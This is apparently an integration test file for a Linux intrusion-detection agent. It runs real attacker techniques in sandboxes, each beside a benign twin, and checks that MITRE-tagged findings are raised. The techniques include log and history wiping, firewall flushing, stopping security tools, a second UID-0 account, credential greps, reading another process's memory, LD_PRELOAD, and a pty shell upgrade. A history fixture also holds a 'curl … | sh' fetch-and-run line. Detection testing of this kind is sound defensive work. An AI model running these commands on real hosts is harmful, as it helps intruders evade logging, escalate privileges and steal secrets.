    fs::create_dir_all(&base).unwrap();
    let work = tempfile::tempdir_in(&base).unwrap();
    let agent = Agent::start(None);
    for hidden in ["...", ". ", "   "] {
        let dir = work.path().join(hidden);
        fs::create_dir(&dir).unwrap();
        let prog = dir.join("kworker");
        copy_exec("/bin/true", &prog);
        let since = now_ms();
        let child = Command::new(&prog).spawn().unwrap();
        let pid = child.id();
        let _ = child.wait_with_output();
        let f = agent.expect(
            "exec-from-hidden-directory",
            "T1564.001",
            since,
            Instant::now(),
            |f| pid_of(f) == pid,
        );
        assert_eq!(f.process.unwrap().exe, prog.to_str().unwrap(), "{hidden:?}");
    }
    // The nearest benign act: a program in an ordinary dot-directory (~/.cache,
    // ~/.local/bin, ~/.cargo/bin are full of them).
    let dir = work.path().join(".local-bin");
    fs::create_dir(&dir).unwrap();
    let prog = dir.join("tool");
    copy_exec("/bin/true", &prog);
    let since = now_ms();
    let child = Command::new(&prog).spawn().unwrap();
    let pid = child.id();
    let _ = child.wait_with_output();
    agent.settle();
    assert!(findings_of(&agent, "exec-from-hidden-directory", since, pid).is_empty());
}

/// Runs `sh -c "exec <command>"` and returns its pid and whether it succeeded.
fn sh_ok(command: &str) -> (u32, bool) {
    let child = Command::new("sh")
        .args(["-c", &format!("exec {command}")])
        .stdout(Stdio::null())
        .stderr(Stdio::null())
        .spawn()
        .unwrap();
    let pid = child.id();
    let ok = child.wait_with_output().unwrap().status.success();
    (pid, ok)
}

/// Tampering and evasion with the tools attackers use: secure deletion, immutable bits
/// removed, logging stopped or reconfigured, kernel hardening written at run time,
/// credential searches, forged timestamps, a second root account and an account put in
/// an administrators' group. Each next to its nearest benign act.
#[test]
fn tampering_evasion_and_account_tricks_with_the_real_tools() {
    root!("tampering_evasion_and_account_tricks_with_the_real_tools");
    let me = std::process::id();
    let home = PathBuf::from(std::env::var_os("HOME").unwrap_or_else(|| "/root".into()));
    let base = home.join(".cache/vigil-tests");
    fs::create_dir_all(&base).unwrap();
    let work = tempfile::tempdir_in(&base).unwrap();
    let w = work.path().display().to_string();
    // The journald drop-in directory, made before the agent starts (one made later is
    // watched as it is made: a_watched_directory_created_after_the_start_is_watched_at_once).
    let _dropins = made_for_test("/etc/systemd/journald.conf.d");
    let agent = Agent::start(None);
    let expect = |rule: &str, mitre: &str, command: &str| agent.raises(rule, mitre, command);
    let quiet = |rules: &[&str], command: &str| agent.stays_quiet(rules, command);

    // Secure deletion (T1070.004), next to a plain rm.
    fs::write(format!("{w}/evidence"), "x").unwrap();
    fs::write(format!("{w}/junk"), "x").unwrap();
    expect(
        "secure-file-deletion",
        "T1070.004",
        &format!("shred -u {w}/evidence"),
    );
    assert!(!Path::new(&format!("{w}/evidence")).exists());
    quiet(&["secure-file-deletion"], &format!("rm {w}/junk"));

    // Immutable bit removed (T1222.002), next to setting it and listing it.
    fs::write(format!("{w}/locked"), "x").unwrap();
    quiet(
        &["immutable-attribute-removed"],
        &format!("chattr +i {w}/locked"),
    );
    quiet(
        &["immutable-attribute-removed"],
        &format!("lsattr {w}/locked"),
    );
    expect(
        "immutable-attribute-removed",
        "T1222.002",
        &format!("chattr -i {w}/locked"),
    );
    fs::remove_file(format!("{w}/locked")).expect("chattr -i really removed the bit");

    // Logging stopped (T1562.001). systemd is not running here, so systemctl fails: the
    // attempt is what is reported. The nearest benign act asks for its status.
    expect(
        "logging-stopped",
        "T1562.001",
        "systemctl stop systemd-journald",
    );
    let since = now_ms();
    let (status, _) = sh_ok("systemctl status rsyslog");
    agent.settle();
    assert!(findings_of(&agent, "logging-stopped", since, status).is_empty());
    // Its configuration changed: a journald drop-in (Storage=none would go here).
    let dropin = format!("/etc/systemd/journald.conf.d/vigil-test-{me}.conf");
    let _dropin = RemoveOnDrop(PathBuf::from(&dropin));
    let since = now_ms();
    let pid = touch_for_write(&dropin);
    let f = agent.expect(
        "logging-config-changed",
        "T1562.001",
        since,
        Instant::now(),
        |f| pid_of(f) == pid,
    );
    assert_eq!(f.details["path"], dropin);

    // Kernel hardening written at run time: ASLR's setting written back with its own
    // value (the act without its effect), after the kernel dropped /proc's cached
    // entries (procfs numbers them anew: the agent holds the directory open).
    fs::write("/proc/sys/vm/drop_caches", "2").unwrap();
    let aslr = fs::read_to_string("/proc/sys/kernel/randomize_va_space").unwrap();
    let f = expect(
        "kernel-hardening-disabled",
        "T1562.001",
        &format!("sysctl -w kernel.randomize_va_space={}", aslr.trim()),
    );
    assert_eq!(f.details["path"], "/proc/sys/kernel/randomize_va_space");
    // The same through a shell redirect.
    let since = now_ms();
    let (pid, ok) = sh_ok(&format!(
        "sh -c 'echo {} > /proc/sys/kernel/randomize_va_space'",
        aslr.trim()
    ));
    assert!(ok);
    agent.expect(
        "kernel-hardening-disabled",
        "T1562.001",
        since,
        Instant::now(),
        |f| pid_of(f) == pid,
    );
    // Reading it, and writing a setting of no consequence to security, are quiet.
    quiet(
        &["kernel-hardening-disabled"],
        "sysctl kernel.randomize_va_space",
    );
    let swappiness = fs::read_to_string("/proc/sys/vm/swappiness").unwrap();
    quiet(
        &["kernel-hardening-disabled"],
        &format!("sysctl -w vm.swappiness={}", swappiness.trim()),
    );

    // Credential searches (T1552.001, T1552.004), next to ordinary searches.
    fs::write(format!("{w}/app.conf"), "password = hunter2\n").unwrap();
    expect(
        "credential-search",
        "T1552.001",
        &format!("grep -ri password {w}"),
    );
    expect(
        "credential-search",
        "T1552.004",
        &format!("find {w} -name id_rsa"),
    );
    quiet(
        &["credential-search"],
        &format!("grep -c password {w}/app.conf"),
    );
    quiet(&["credential-search"], &format!("find {w} -name '*.c'"));

    // Forged timestamps (T1070.006), next to a plain touch.
    fs::write(format!("{w}/implant"), "x").unwrap();
    expect(
        "timestamp-forged",
        "T1070.006",
        &format!("touch -r /bin/ls {w}/implant"),
    );
    // (A second `touch -d` would fold into this finding: one per rule and program.)
    quiet(&["timestamp-forged"], &format!("touch {w}/implant"));

    // A second root (T1136.001) by the account tools themselves, and an account put in
    // the sudo group (T1078.003); next to an ordinary account and group.
    let root2 = format!("vgt0{}", me % 100_000);
    let user = format!("vgtu{}", me % 100_000);
    struct Accounts(Vec<String>);
    impl Drop for Accounts {
        fn drop(&mut self) {
            for u in &self.0 {
                let _ = Command::new("userdel").args(["-f", u]).output();
            }
        }
    }
    let _accounts = Accounts(vec![root2.clone(), user.clone()]);
    let f = expect(
        "privileged-account-created",
        "T1136.001",
        &format!("useradd -o -u 0 -M -N -s /usr/sbin/nologin {root2}"),
    );
    assert!(f.process.unwrap().cmdline.contains(&root2));
    quiet(
        &["privileged-account-created"],
        &format!("useradd -M -N -s /usr/sbin/nologin {user}"),
    );
    quiet(
        &["privileged-account-created"],
        &format!("usermod -aG users {user}"),
    );
    expect(
        "privileged-account-created",
        "T1078.003",
        &format!("usermod -aG sudo {user}"),
    );
    let groups = run(Command::new("id").args(["-nG", &user]));
    assert!(
        String::from_utf8_lossy(&groups.stdout).contains("sudo"),
        "{groups:?}"
    );
}

/// Security controls, the firewall and the logs turned off with the real tools, and a
/// desktop autostart entry written; each next to its nearest benign act. The firewall
/// is a network namespace's own (the act, on rules no one needs); systemd is not
/// running here, so `systemctl stop` fails: the attempt is what is reported.
#[test]
fn security_tools_the_firewall_and_logs_turned_off_and_an_autostart_entry() {
    root!("security_tools_the_firewall_and_logs_turned_off_and_an_autostart_entry");
    let me = std::process::id();
    let work = tmp_dir();
    let w = work.path().display().to_string();
    // A user's autostart directory, made before the agent starts if missing.
    let _autostart = made_for_test("/root/.config/autostart");
    let agent = Agent::start(None);
    let expect = |rule: &str, mitre: &str, command: &str| agent.raises(rule, mitre, command);
    let quiet = |rule: &str, command: &str| agent.stays_quiet(&[rule], command);

    // A security agent stopped and killed (T1562.001), next to asking for its status.
    let since = now_ms();
    let (status, _) = sh_ok("systemctl status falco");
    agent.settle();
    assert!(findings_of(&agent, "security-tool-disabled", since, status).is_empty());
    let f = expect(
        "security-tool-disabled",
        "T1562.001",
        "systemctl stop falco",
    );
    assert_eq!(f.process.unwrap().name, "systemctl");
    let f = expect("security-tool-disabled", "T1562.001", "pkill -x osqueryd");
    assert_eq!(f.process.unwrap().name, "pkill");

    // The firewall (T1562.004), in a namespace of its own: a rule added and listed, a
    // chain of one's own made and flushed (what container runtimes do), then a rule
    // deleted from INPUT, INPUT's policy set to ACCEPT, every chain flushed, and the
    // nftables ruleset flushed. Repeats by one program within the dedup window fold
    // into its first finding, so the rule's match count says which acts matched: the
    // three iptables ones and nft's, none of the benign ones.
    let matches = || {
        agent
            .stats()
            .rule_matches
            .get("firewall-disabled")
            .copied()
            .unwrap_or(0)
    };
    let before = matches();
    let since = now_ms();
    let out = in_own_netns(
        "iptables -A INPUT -p tcp --dport 9 -j DROP && iptables -L -n >/dev/null \
         && iptables -N VIGILTEST && iptables -A VIGILTEST -j RETURN && iptables -F VIGILTEST \
         && iptables -P INPUT DROP && nft list ruleset >/dev/null",
    );
    assert!(out.status.success(), "{out:?}");
    agent.settle();
    assert_eq!(matches(), before, "benign firewall work matched");
    let out = in_own_netns(
        "iptables -A INPUT -p tcp --dport 9 -j DROP && iptables -D INPUT 1 \
         && iptables -P INPUT ACCEPT && iptables -A OUTPUT -j ACCEPT && iptables -F \
         && nft add table inet vigiltest && nft flush ruleset",
    );
    assert!(out.status.success(), "{out:?}");
    agent.settle();
    assert_eq!(matches(), before + 4, "the four acts, and only they");
    for (name, cmdline) in [
        ("iptables", "iptables -D INPUT 1"),
        ("nft", "nft flush ruleset"),
    ] {
        let f = agent.expect(
            "firewall-disabled",
            "T1562.004",
            since,
            Instant::now(),
            |f| f.process.as_ref().is_some_and(|p| p.name == name),
        );
        assert_eq!(f.process.unwrap().cmdline, cmdline);
    }

    // Logs deleted (T1070.002): a file under /var/log removed, a journal vacuumed (a
    // scratch journal directory: the host's journal stays); next to removing a log
    // elsewhere and listing /var/log.
    let log = format!("/var/log/vigil-test-{me}.log");
    fs::write(&log, "x\n").unwrap();
    let _log = RemoveOnDrop(PathBuf::from(&log));
    fs::write(format!("{w}/app.log"), "x\n").unwrap();
    quiet("log-files-deleted", &format!("rm {w}/app.log"));
    quiet("log-files-deleted", "ls /var/log");
    let f = expect("log-files-deleted", "T1070.002", &format!("rm -f {log}"));
    assert_eq!(f.process.unwrap().name, "rm");
    assert!(!Path::new(&log).exists());
    fs::create_dir_all(format!("{w}/journal")).unwrap();
    expect(
        "log-files-deleted",
        "T1070.002",
        &format!("journalctl --directory {w}/journal --vacuum-time=1s"),
    );

    // An XDG autostart entry (T1547.013), next to reading one.
    let entry = format!("/root/.config/autostart/vigil-test-{me}.desktop");
    let since = now_ms();
    let pid = touch_for_write(&entry);
    let f = agent.expect(
        "persistence-desktop-autostart",
        "T1547.013",
        since,
        Instant::now(),
        |f| pid_of(f) == pid,
    );
    assert_eq!(f.details["path"], entry);
    fs::write(&entry, "[Desktop Entry]\n").unwrap();
    let _entry = RemoveOnDrop(PathBuf::from(&entry));
    quiet("persistence-desktop-autostart", &format!("cat {entry}"));
}

/// Packet capture's ways in: a packet socket for every protocol (what tcpdump opens) and
/// a raw TCP socket, by two programs in a network namespace of their own; next to a UDP
/// and a TCP socket and ping's raw ICMP and ICMPv6 sockets, which are not reported (the
/// rule's match count says so).
#[test]
fn a_packet_socket_or_a_raw_ip_socket_is_packet_capture() {
    root!("a_packet_socket_or_a_raw_ip_socket_is_packet_capture");
    let agent = Agent::start(None);
    let matches = || {
        agent
            .stats()
            .rule_matches
            .get("packet-capture")
            .copied()
            .unwrap_or(0)
    };
    let before = matches();
    let out = in_own_netns(
        "python3 -c 'import socket as s; s.socket(s.AF_INET, s.SOCK_DGRAM); \
         s.socket(s.AF_INET, s.SOCK_STREAM); s.socket(s.AF_INET, s.SOCK_RAW, s.IPPROTO_ICMP); \
         s.socket(s.AF_INET6, s.SOCK_RAW, s.IPPROTO_ICMPV6)'",
    );
    assert!(out.status.success(), "{out:?}");
    agent.settle();
    assert_eq!(matches(), before, "ordinary and ICMP sockets matched");
    let since = now_ms();
    let out = in_own_netns(
        "python3 -c 'import socket as s; s.socket(s.AF_PACKET, s.SOCK_RAW, s.htons(3))' \
         && perl -MSocket -e 'socket(my $s, PF_INET, SOCK_RAW, 6) or die $!'",
    );
    assert!(out.status.success(), "{out:?}");
    for (program, family, protocol) in [("python", "packet", "3"), ("perl", "inet", "6")] {
        let f = agent.expect("packet-capture", "T1040", since, Instant::now(), |f| {
            f.process.as_ref().is_some_and(|p| p.exe.contains(program))
        });
        assert_eq!(f.details["socket.family"], family, "{f:?}");
        assert_eq!(f.details["socket.type"], "raw", "{f:?}");
        assert_eq!(f.details["socket.protocol"], protocol, "{f:?}");
    }
    assert_eq!(matches(), before + 2);
}

/// Another process's memory read through /proc/PID/mem and process_vm_readv, written
/// through /proc/PID/mem, and a process hidden by a bind mount over its /proc
/// directory; next to a process reading its own memory, `ps`-style reads of another's
/// /proc files, and an ordinary mount.
#[test]
fn memory_of_another_process_and_a_process_hidden_by_a_mount() {
    root!("memory_of_another_process_and_a_process_hidden_by_a_mount");
    let mut victim = KillOnDrop(
        Command::new("sleep")
            .arg("600")
            .stdin(Stdio::null())
            .spawn()
            .unwrap(),
    );
    let vpid = victim.0.id();
    let agent = Agent::start(None);
    let python = |script: &str| -> (u32, bool) {
        let child = Command::new("python3")
            .args(["-c", script])
            .stdin(Stdio::null())
            .spawn()
            .unwrap();
        let pid = child.id();
        let ok = child.wait_with_output().unwrap().status.success();
        (pid, ok)
    };
    // The first readable mapping of the victim, read through its mem file.
    let since = now_ms();
    let (pid, ok) = python(&format!(
        "m = open('/proc/{vpid}/maps').readline().split()[0].split('-')[0]\n\
         f = open('/proc/{vpid}/mem', 'rb'); f.seek(int(m, 16)); assert len(f.read(16)) == 16"
    ));
    assert!(ok);
    let f = agent.expect(
        "process-memory-read",
        "T1003.007",
        since,
        Instant::now(),
        |f| pid_of(f) == pid,
    );
    assert_eq!(f.details["target_pid"], vpid.to_string(), "{f:?}");
    assert_eq!(f.details["method"], "proc_mem");
    assert_eq!(f.details["target_exe"], "/usr/bin/sleep");
    // The same through process_vm_readv (ctypes), by another program name.
    let reader = tempfile::tempdir().unwrap();
    let py2 = reader.path().join("scraper");
    fs::copy(fs::canonicalize("/usr/bin/python3").unwrap(), &py2).unwrap();
    let since = now_ms();
    let child = Command::new(&py2)
        .args([
            "-c",
            &format!(
                "import ctypes\n\
                 m = open('/proc/{vpid}/maps').readline().split()[0].split('-')[0]\n\
                 class IOV(ctypes.Structure): _fields_ = [('b', ctypes.c_void_p), ('n', ctypes.c_size_t)]\n\
                 buf = ctypes.create_string_buffer(16)\n\
                 l = IOV(ctypes.cast(buf, ctypes.c_void_p), 16); r = IOV(int(m, 16), 16)\n\
                 libc = ctypes.CDLL(None, use_errno=True)\n\
                 n = libc.process_vm_readv({vpid}, ctypes.byref(l), 1, ctypes.byref(r), 1, 0)\n\
                 assert n == 16, ctypes.get_errno()"
            ),
        ])
        .stdin(Stdio::null())
        .spawn()
        .unwrap();
    let pid = child.id();
    assert!(child.wait_with_output().unwrap().status.success());
    let f = agent.expect(
        "process-memory-read",
        "T1003.007",
        since,
        Instant::now(),
        |f| pid_of(f) == pid,
    );
    assert_eq!(f.details["method"], "process_vm", "{f:?}");
    // Opened for writing: injection.
    let since = now_ms();
    let (pid, ok) = python(&format!("open('/proc/{vpid}/mem', 'r+b').close()"));
    assert!(ok);
    agent.expect(
        "process-memory-write",
        "T1055.009",
        since,
        Instant::now(),
        |f| pid_of(f) == pid,
    );
    // The nearest benign acts: its own memory, and another's status and maps.
    let since = now_ms();
    let (own, ok) = python(
        "m = open('/proc/self/maps').readline().split()[0].split('-')[0]\n\
         f = open('/proc/self/mem', 'rb'); f.seek(int(m, 16)); f.read(16)",
    );
    assert!(ok);
    let (ps, ok) = sh_ok(&format!(
        "cat /proc/{vpid}/status /proc/{vpid}/maps /proc/meminfo"
    ));
    assert!(ok);
    agent.settle();
    for rule in ["process-memory-read", "process-memory-write"] {
        assert!(findings_of(&agent, rule, since, own).is_empty(), "{rule}");
        assert!(findings_of(&agent, rule, since, ps).is_empty(), "{rule}");
    }

    // A bind mount over the victim's /proc directory, in a mount namespace of its own
    // (the same syscall; the host's /proc is left alone).
    let empty = tempfile::tempdir().unwrap();
    let since = now_ms();
    let child = Command::new("unshare")
        .args([
            "-m",
            "--propagation",
            "private",
            "mount",
            "--bind",
            empty.path().to_str().unwrap(),
            &format!("/proc/{vpid}"),
        ])
        .spawn()
        .unwrap();
    let pid = child.id();
    assert!(child.wait_with_output().unwrap().status.success());
    let f = agent.expect(
        "process-hidden-by-mount",
        "T1564.013",
        since,
        Instant::now(),
        |f| pid_of(f) == pid,
    );
    assert_eq!(f.details["path"], format!("/proc/{vpid}"));
    // An ordinary mount elsewhere, and one of /proc itself in a new pid namespace
    // (what unshare --mount-proc and container runtimes do), are quiet.
    let since = now_ms();
    let (tmpfs, ok) = sh_ok(&format!(
        "unshare -m --propagation private mount -t tmpfs none {}",
        empty.path().display()
    ));
    assert!(ok);
    let (procfs, ok) = sh_ok("unshare -m -p -f --mount-proc true");
    assert!(ok);
    agent.settle();
    let raised: Vec<_> = agent
        .findings(since)
        .into_iter()
        .filter(|f| f.rule == "process-hidden-by-mount")
        .collect();
    assert!(raised.is_empty(), "{tmpfs} {procfs}: {raised:#?}");
    let _ = victim.0.kill();
}

/// Logs and shell history emptied in place (a redirect, `truncate -s 0`, `cp
/// /dev/null`), in /var/log and a directory below it; next to appending to a log,
/// logrotate rotating one with copytruncate, and bash saving its history.
#[test]
fn logs_and_history_truncated_and_the_rotation_that_is_not_an_attack() {
    root!("logs_and_history_truncated_and_the_rotation_that_is_not_an_attack");
    let me = std::process::id();
    struct RemoveTree(PathBuf);
    impl Drop for RemoveTree {
        fn drop(&mut self) {
            let _ = fs::remove_dir_all(&self.0);
        }
    }
    // Made before the agent starts (see the README on directories made later).
    let logdir = RemoveTree(PathBuf::from(format!("/var/log/vigil-test-{me}")));
    fs::create_dir(&logdir.0).unwrap();
    let top = RemoveOnDrop(PathBuf::from(format!("/var/log/vigil-test-{me}.log")));
    let nested = logdir.0.join("app.log");
    let rotated = logdir.0.join("rotated.log");
    for f in [&top.0, &nested, &rotated] {
        fs::write(f, "an entry\n").unwrap();
    }
    let home = RemoveTree(PathBuf::from(format!("/home/vigil-test-{me}")));
    fs::create_dir(&home.0).unwrap();
    let history = home.0.join(".bash_history");
    fs::write(&history, "curl http://203.0.113.9/x | sh\n").unwrap();
    let agent = Agent::start(None);
    let expect = |rule: &str, mitre: &str, command: &str| -> Finding {
        let since = now_ms();
        let (pid, ok) = sh_ok(command);
        assert!(ok, "{command}");
        agent.expect(rule, mitre, since, Instant::now(), |f| pid_of(f) == pid)
    };

    // A redirect in a shell (open with O_TRUNC), in /var/log itself.
    let f = expect(
        "log-file-truncated",
        "T1070.002",
        &format!("sh -c ': > {}'", top.0.display()),
    );
    assert_eq!(f.details["path"], top.0.to_str().unwrap());
    assert_eq!(f.details["operation"], "open_truncate");
    // truncate -s 0 (ftruncate), in a directory below it.
    let f = expect(
        "log-file-truncated",
        "T1070.002",
        &format!("truncate -s 0 {}", nested.display()),
    );
    assert_eq!(f.details["path"], nested.to_str().unwrap());
    assert_eq!(f.details["operation"], "ftruncate");
    assert_eq!(fs::metadata(&nested).unwrap().len(), 0);

    // Shell history emptied: by a redirect, then (the file saved again) by cp.
    let f = expect(
        "shell-history-cleared",
        "T1070.003",
        &format!("bash -c ': > {}'", history.display()),
    );
    assert_eq!(f.details["path"], history.to_str().unwrap());
    assert_eq!(f.details["size_after"], "0");

    // The nearest benign acts: appending to a log; logrotate with copytruncate (it
    // empties the log it copied); bash saving its history (a new file renamed over the
    // old, then appended to).
    let since = now_ms();
    let (append, ok) = sh_ok(&format!("sh -c 'echo more >> {}'", top.0.display()));
    assert!(ok);
    let conf = logdir.0.join("logrotate.conf");
    fs::write(
        &conf,
        format!(
            "{} {{\n  copytruncate\n  rotate 1\n  missingok\n}}\n",
            rotated.display()
        ),
    )
    .unwrap();
    let state = logdir.0.join("logrotate.state");
    let (logrotate, ok) = sh_ok(&format!(
        "logrotate --force --state {} {}",
        state.display(),
        conf.display()
    ));
    assert!(ok, "logrotate failed");
    assert_eq!(
        fs::metadata(&rotated).unwrap().len(),
        0,
        "copytruncate emptied it"
    );
    let (save, ok) = sh_ok(&format!(
        "bash -c 'set -o history; HISTFILE={}; history -s ls; history -w'",
        history.display()
    ));
    assert!(ok);
    assert!(fs::metadata(&history).unwrap().len() > 0);
    agent.settle();
    for pid in [append, logrotate, save] {
        assert!(findings_of(&agent, "log-file-truncated", since, pid).is_empty());
        assert!(findings_of(&agent, "shell-history-cleared", since, pid).is_empty());
    }
    // The saved history is a new file: it is followed (looked up again when bash
    // exits), so emptying it again is seen.
    let f = expect(
        "shell-history-cleared",
        "T1070.003",
        &format!("python3 -c \"open('{}', 'w').close()\"", history.display()),
    );
    assert_eq!(f.details["path"], history.to_str().unwrap());
    assert_eq!(f.event, "truncate");
}

/// A library preloaded and a proxy forced through the environment of an exec (read in
/// the kernel at the call, decided on with the program the exec started), wherever the
/// variable sits in the environment; next to an allocator preloaded on purpose and
/// variables of no consequence.
#[test]
fn ld_preload_and_proxies_in_an_exec_environment() {
    root!("ld_preload_and_proxies_in_an_exec_environment");
    let libs = tempfile::tempdir().unwrap();
    let lib = fs::read_link("/lib/x86_64-linux-gnu/libm.so.6")
        .map(|l| Path::new("/lib/x86_64-linux-gnu").join(l))
        .unwrap_or_else(|_| PathBuf::from("/lib/x86_64-linux-gnu/libm.so.6"));
    let hook = libs.path().join("libhook.so");
    let allocator = libs.path().join("libjemalloc.so.2");
    fs::copy(&lib, &hook).unwrap();
    fs::copy(&lib, &allocator).unwrap();
    let agent = Agent::start(None);
    // `filler` variables first: the wanted one is past the first chunks the kernel reads.
    let exec = |prog: &str, vars: &[(&str, &str)], filler: usize| -> u32 {
        let mut cmd = Command::new(prog);
        cmd.env_clear();
        for i in 0..filler {
            cmd.env(format!("VIGIL_FILLER_{i:03}"), "x");
        }
        cmd.envs(vars.iter().copied())
            .stdin(Stdio::null())
            .stdout(Stdio::null())
            .stderr(Stdio::null());
        let child = cmd.spawn().unwrap();
        let pid = child.id();
        assert!(child.wait_with_output().unwrap().status.success());
        pid
    };
    let since = now_ms();
    let pid = exec("/bin/true", &[("LD_PRELOAD", hook.to_str().unwrap())], 0);
    let f = agent.expect(
        "ld-preload-in-environment",
        "T1574.006",
        since,
        Instant::now(),
        |f| pid_of(f) == pid,
    );
    assert_eq!(f.details["env.name"], "LD_PRELOAD");
    assert_eq!(f.details["env.value"], hook.to_str().unwrap());
    assert_eq!(
        f.process.unwrap().exe,
        "/bin/true",
        "the program it started"
    );
    // Deep in a long environment, by another program.
    let since = now_ms();
    let pid = exec("/bin/echo", &[("LD_PRELOAD", hook.to_str().unwrap())], 90);
    agent.expect(
        "ld-preload-in-environment",
        "T1574.006",
        since,
        Instant::now(),
        |f| pid_of(f) == pid,
    );
    // A proxy forced on a download tool, in either case.
    let since = now_ms();
    let pid = exec("/bin/true", &[("https_proxy", "http://127.0.0.1:8080")], 10);
    let f = agent.expect(
        "proxy-set-in-environment",
        "T1090",
        since,
        Instant::now(),
        |f| pid_of(f) == pid,
    );
    assert_eq!(f.details["env.value"], "http://127.0.0.1:8080");
    let since = now_ms();
    let pid = exec("/bin/echo", &[("ALL_PROXY", "socks5://127.0.0.1:1080")], 0);
    agent.expect(
        "proxy-set-in-environment",
        "T1090",
        since,
        Instant::now(),
        |f| pid_of(f) == pid,
    );
    // The nearest benign acts: an allocator preloaded on purpose, a library path, a
    // no_proxy list.
    let since = now_ms();
    let quiet = [
        exec("/bin/ls", &[("LD_PRELOAD", allocator.to_str().unwrap())], 0),
        exec(
            "/bin/ls",
            &[("LD_LIBRARY_PATH", libs.path().to_str().unwrap())],
            0,
        ),
        exec("/bin/ls", &[("no_proxy", "localhost,127.0.0.1")], 0),
    ];
    agent.settle();
    for pid in quiet {
        for rule in ["ld-preload-in-environment", "proxy-set-in-environment"] {
            assert!(
                findings_of(&agent, rule, since, pid).is_empty(),
                "{rule} {pid}"
            );
        }
    }
}

/// Shell history turned off for what follows: exported through the environment (seen in
/// the kernel at every exec below it) or on a script's command line (`set +o history`,
/// which itself leaves no trace in the kernel); next to the nearest benign acts, a
/// history kept elsewhere and a larger size.
#[test]
fn shell_history_turned_off_through_the_environment_or_the_command_line() {
    root!("shell_history_turned_off_through_the_environment_or_the_command_line");
    let agent = Agent::start(None);
    let sh_env = |vars: &[(&str, &str)], script: &str| -> u32 {
        let child = Command::new("bash")
            .args(["-c", script])
            .env_clear()
            .env("PATH", "/usr/sbin:/usr/bin:/sbin:/bin")
            .envs(vars.iter().copied())
            .stdin(Stdio::null())
            .stdout(Stdio::null())
            .stderr(Stdio::null())
            .spawn()
            .unwrap();
        let pid = child.id();
        assert!(child.wait_with_output().unwrap().status.success());
        pid
    };
    // One program each: a finding is deduplicated per rule and program for an hour.
    let run_env = |prog: &str, vars: &[(&str, &str)]| -> u32 {
        let child = Command::new(prog)
            .env_clear()
            .envs(vars.iter().copied())
            .stdin(Stdio::null())
            .stdout(Stdio::null())
            .spawn()
            .unwrap();
        let pid = child.id();
        assert!(child.wait_with_output().unwrap().status.success());
        pid
    };
    // The nearest benign acts first (a finding is deduplicated per rule and program, so
    // one after an attack by the same program could hide in its count): history kept
    // in another file, a larger history, a shell that turns history on.
    let since_benign = now_ms();
    let quiet = [
        run_env(
            "/bin/date",
            &[("HISTFILE", "/root/.cache/vigil-test-history")],
        ),
        run_env(
            "/bin/uname",
            &[("HISTSIZE", "10000"), ("HISTFILESIZE", "20000")],
        ),
        sh_env(&[], "set -o history; true"),
        // RHEL's /etc/profile exports this one: duplicates dropped, nothing hidden.
        run_env("/bin/hostname", &[("HISTCONTROL", "ignoredups")]),
    ];
    for (prog, var, value) in [
        ("/bin/true", "HISTFILE", "/dev/null"),
        ("/bin/echo", "HISTSIZE", "0"),
        ("/bin/ls", "HISTFILESIZE", "0"),
        ("/bin/pwd", "HISTFILE", ""),
        ("/bin/id", "HISTIGNORE", "*"),
        ("/bin/whoami", "HISTCONTROL", "ignoreboth"),
    ] {
        let since = now_ms();
        let pid = run_env(prog, &[(var, value)]);
        let f = agent.expect(
            "history-disabled-in-environment",
            "T1562.003",
            since,
            Instant::now(),
            |f| pid_of(f) == pid,
        );
        assert_eq!(f.details["env.name"], var);
        assert_eq!(f.details["env.value"], value);
    }
    // A script that turns history off on its command line.
    let since = now_ms();
    let pid = sh_env(&[], "set +o history; true");
    agent.expect(
        "shell-history-cleared",
        "T1070.003",
        since,
        Instant::now(),
        |f| pid_of(f) == pid,
    );
    agent.settle();
    for pid in quiet {
        for rule in ["history-disabled-in-environment", "shell-history-cleared"] {
            assert!(
                findings_of(&agent, rule, since_benign, pid).is_empty(),
                "{rule} {pid}"
            );
        }
    }
}

/// A shell started by an interpreter on a pseudo-terminal the interpreter made (the
/// usual upgrade of a reverse shell); next to an interpreter run in a terminal starting
/// a shell on that same terminal, and a shell that `script` started on its new one.
#[test]
fn a_shell_on_a_pty_made_by_an_interpreter() {
    root!("a_shell_on_a_pty_made_by_an_interpreter");
    let agent = Agent::start(None);
    let since = now_ms();
    let child = Command::new("python3")
        .args(["-c", "import pty; pty.spawn(['/bin/sh', '-c', 'exit 0'])"])
        .stdin(Stdio::null())
        .stdout(Stdio::null())
        .spawn()
        .unwrap();
    let python = child.id();
    assert!(child.wait_with_output().unwrap().status.success());
    let f = agent.expect(
        "shell-through-pty-by-interpreter",
        "T1059.006",
        since,
        Instant::now(),
        |f| f.parent.as_ref().is_some_and(|p| p.pid == python),
    );
    assert_eq!(f.process.unwrap().name, "sh");
    // The nearest benign acts: inside `script` (a terminal of its own), python starts
    // a shell with os.system: the shell shares python's terminal.
    let since = now_ms();
    let out = run(Command::new("script").args([
        "-qec",
        "python3 -c \"import os; os.system('sh -c true')\"",
        "/dev/null",
    ]));
    assert!(out.status.success(), "{out:?}");
    agent.settle();
    let raised: Vec<_> = agent
        .findings(since)
        .into_iter()
        .filter(|f| f.rule == "shell-through-pty-by-interpreter")
        .collect();
    assert!(raised.is_empty(), "{raised:#?}");
}

/// A directory a rule watches that is created after the agent started (a first
/// `crontab -e` makes /var/spool/cron/crontabs) is watched at once: a write into it is
/// seen within the usual bound, not at the next /proc rescan a minute later. Also two
/// levels made at once (`mkdir -p`).
#[test]
fn a_watched_directory_created_after_the_start_is_watched_at_once() {
    root!("a_watched_directory_created_after_the_start_is_watched_at_once");
    let home = PathBuf::from(std::env::var_os("HOME").unwrap_or_else(|| "/root".into()));
    let base = home.join(".cache/vigil-tests");
    fs::create_dir_all(&base).unwrap();
    let work = tempfile::tempdir_in(&base).unwrap();
    let later = work.path().join("later");
    let deeper = work.path().join("made/at/once");
    let agent = Agent::start(Some(&format!(
        "rules:\n  - id: test-later\n    description: a file written in a directory made later\n    severity: low\n    mitre: [T1053.003]\n    events: [file_write]\n    condition:\n      path: {{prefix: [{}/, {}/]}}\n    dedup: 0s\n",
        later.display(),
        deeper.display()
    )));
    for dir in [&later, &deeper] {
        let made = Instant::now();
        fs::create_dir_all(dir).unwrap();
        let file = dir.join("job");
        let since = now_ms();
        let mut writers = Vec::new();
        vigil_tests::daemons::wait_until(
            "a finding for a write in the new directory",
            WITHIN,
            || {
                if agent
                    .findings(since)
                    .iter()
                    .any(|f| f.rule == "test-later" && writers.contains(&pid_of(f)))
                {
                    return true;
                }
                // Written again until one write is seen (each is a fresh chance).
                writers.push(touch_for_write(file.to_str().unwrap()));
                false
            },
        );
        eprintln!(
            "{}: watched {:?} after its creation",
            dir.display(),
            made.elapsed()
        );
    }
